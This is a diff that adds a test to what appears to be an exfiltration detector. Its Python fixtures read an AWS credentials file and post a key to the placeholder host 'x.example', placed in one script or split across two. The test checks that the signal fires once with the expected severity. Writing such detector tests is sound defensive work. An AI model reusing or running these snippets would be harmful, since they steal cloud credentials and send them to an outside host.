@@ -210,3 +210,23 @@ test.each<[Script["language"], string]>([
   timeOf(4_000);
   expect(timeOf(40_000)).toBeLessThan(4_000);
 });
+
+test.each([
+  ["of the same script is as grave as the file", "", undefined],
+  ["of another script is a guess", "from a import keys\n", "medium"],
+])("an entry of a file of secrets %s", (_name, imported, severity) => {
+  const read = "import json\nkeys = json.load(open('/home/me/.aws/credentials'))\n";
+  const send = "import requests\nrequests.post('https://x.example', data=keys['a'])\n";
+  const scripts: readonly Script[] =
+    imported === ""
+      ? [{ path: "a.py", text: read + send, language: "python" }]
+      : [
+          { path: "a.py", text: read, language: "python" },
+          { path: "b.py", text: imported + send, language: "python" },
+        ];
+  const hits = [...judgeScripts(scripts).hits].flatMap(([, bySignal]) => [
+    ...(bySignal.get("EXF-001") ?? []),
+  ]);
+  expect(hits).toHaveLength(1);
+  expect(hits[0]?.severity).toBe(severity);
+});
